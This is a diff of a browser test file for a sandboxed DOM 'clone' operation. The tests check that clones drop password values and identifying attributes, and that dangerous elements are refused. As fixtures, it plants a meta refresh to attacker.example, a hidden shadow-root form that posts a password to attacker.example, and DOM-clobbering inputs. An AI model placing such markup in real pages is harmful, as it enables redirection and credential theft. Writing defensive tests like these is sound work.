@@ -115,16 +115,54 @@ describe('setHTML', () => {
 });
 
 describe('clone', () => {
-  test('a clone of the login form has no password values, ids, names or form links, and belongs to the remixlet', async () => {
-    await p.page.fill('#password', 'typed-secret');
-    const c = await p.ok<Handle>({ op: 'clone', h: await q('#login') });
+  test('a clone of a page fieldset has no password values, ids, names or form links, and belongs to the remixlet', async () => {
+    await p.page.evaluate(() =>
+      document.getElementById('login')!.insertAdjacentHTML('beforeend', '<fieldset id="pwset"><input id="em3" name="em3" value="me@page.test" autofocus><input id="pw3" name="pw3" type="password" value="hunter2"><input id="pw4" form="login" type="password"></fieldset>'),
+    );
+    await p.page.fill('#pw4', 'typed-secret');
+    const c = await p.ok<Handle>({ op: 'clone', h: await q('#pwset') });
     const html = await p.ok<string>({ op: 'html', h: c.h });
-    expect(html).not.toMatch(/hunter2|typed-secret|s3cret|id=|name=/);
+    expect(html).not.toMatch(/hunter2|typed-secret|id=|name=|form=|autofocus/);
     expect(html).toContain('me@page.test');
     await p.ok({ op: 'insert', h: await q('#target'), where: 'append', node: c.h });
-    expect(await p.page.evaluate(() => [...document.querySelectorAll('#target input')].map((i) => (i as HTMLInputElement).value))).toEqual(['me@page.test', '', '', 'tok', '']);
+    expect(await p.page.evaluate(() => [...document.querySelectorAll('#target input')].map((i) => (i as HTMLInputElement).value))).toEqual(['me@page.test', '', '']);
     const pwClone = (await p.ok<Handle[]>({ op: 'queryAll', sel: '#target input[type=password]' }))[0]!;
     expect(await p.ok({ op: 'value', h: pwClone.h })).toBe('');
-    expect(await p.page.evaluate(() => document.querySelectorAll('#password').length)).toBe(1);
+    expect(await p.page.evaluate(() => document.querySelectorAll('#pw3').length)).toBe(1);
+  });
+
+  test('an element dom.create refuses cannot be had by cloning the page\'s own, alone or inside another', async () => {
+    await p.page.evaluate(() => {
+      document.head.insertAdjacentHTML('beforeend', '<meta id="refresh" http-equiv="refresh" content="0;url=https://attacker.example/r">');
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        `<div id="has-frame"><p>x</p><iframe src="about:blank"></iframe></div>
+         <video id="vid" src="/v.mp4"></video>
+         <div id="has-object"><object data="/o"></object></div>
+         <svg id="has-use"><use href="#icon"></use></svg>
+         <div id="has-script"><script>window.__canary++</script></div>
+         <div id="plain"><p class="x">fine</p><img src="/static/logo.png" alt=""></div>`,
+      );
+    });
+    await p.page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<form id="clob-form"><input name="querySelectorAll"><input name="removeAttribute"></form>'));
+    for (const sel of ['#login', '#clob-form', '#refresh', '#has-frame', '#vid', '#has-object', '#has-use', '#has-script', '#pagestyle']) {
+      const r = await p.refused({ op: 'clone', h: await q(sel) });
+      expect(r.code, sel).toBe('ELEMENT_REFUSED');
+      expect(r.reason, sel).toMatch(/cannot be cloned/);
+    }
+    // A clonable shadow root is copied with its host, where nothing above could see inside it.
+    await p.page.evaluate(() => {
+      const host = document.createElement('div');
+      host.id = 'shadow-host';
+      document.body.append(host);
+      const root = host.attachShadow({ mode: 'closed', clonable: true } as ShadowRootInit);
+      root.innerHTML = '<input type="password" value="hunter2"><form action="https://attacker.example/s"><button>go</button></form>';
+    });
+    const r = await p.refused({ op: 'clone', h: await q('#shadow-host') });
+    expect(r.code).toBe('ELEMENT_REFUSED');
+    expect(r.reason).toContain('shadow root');
+    const c = await p.ok<Handle>({ op: 'clone', h: await q('#plain') });
+    expect(await p.ok<string>({ op: 'html', h: c.h })).toContain('fine');
+    await nothingRan();
   });
 });
